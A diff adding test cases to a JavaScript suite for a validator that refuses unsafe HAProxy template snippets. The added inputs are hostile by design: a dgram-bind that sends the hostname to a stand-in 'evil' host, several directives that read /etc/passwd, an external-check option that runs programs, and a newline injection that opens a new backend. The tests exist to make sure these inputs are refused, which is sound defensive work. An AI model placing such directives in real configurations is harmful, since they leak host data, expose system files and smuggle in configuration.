@@ -157,6 +157,30 @@ describe('appTemplateText: a per-app template label as it may be printed', () =>
       '  http-request use-service lua.getconfig\n',
       /Lua services/,
     ],
+    // A third audit: sections of HAProxy 2.6 and later, addresses there, other files HAProxy reads.
+    [
+      'a log-forward section whose dgram-bind sends a variable out by DNS',
+      'BACKEND_SERVER_OPTIONS',
+      '  server {serverName} {host_ipv4}:{port}\nlog-forward x\n  dgram-bind $HOSTNAME.evil.invalid:5514\n',
+      /line 2 opens a "log-forward" section/,
+    ],
+    ['a crt-store section (3.0)', 'BACKEND_HTTP_OPTIONS', 'crt-store x\n', /opens a "crt-store" section/],
+    ['a variable in a dgram-bind', 'BACKEND_HTTP_OPTIONS', '  dgram-bind "${HOSTNAME}":1\n', /fills \$NAME/],
+    [
+      "a filter's config file (its lines come back in HAProxy's errors)",
+      'BACKEND_HTTP_OPTIONS',
+      '  filter spoe engine x config /etc/passwd\n',
+      /line 1 uses "config", which reads files/,
+    ],
+    ['a certificate list', 'FRONTEND_HEAD', '\nfrontend x\n  bind :1 ssl crt-list /etc/passwd\n', /"crt-list"/],
+    ['a server state file', 'BACKEND_HTTP_OPTIONS', '  server-state-file-name /etc/passwd\n', /reads files/],
+    ['an external check', 'BACKEND_HTTP_OPTIONS', '  option external-check\n', /runs programs/],
+    [
+      'a line feed made by \\n',
+      'BACKEND_HTTP_OPTIONS',
+      '  http-request set-header X "a\\nbackend INJ"\n',
+      /control character with an escape/,
+    ],
   ])('refused: %s', (_, name, text, why) => {
     const r = appTemplateText(name, text);
     expect(typeof r === 'string' ? r : r.error).toMatch(why);
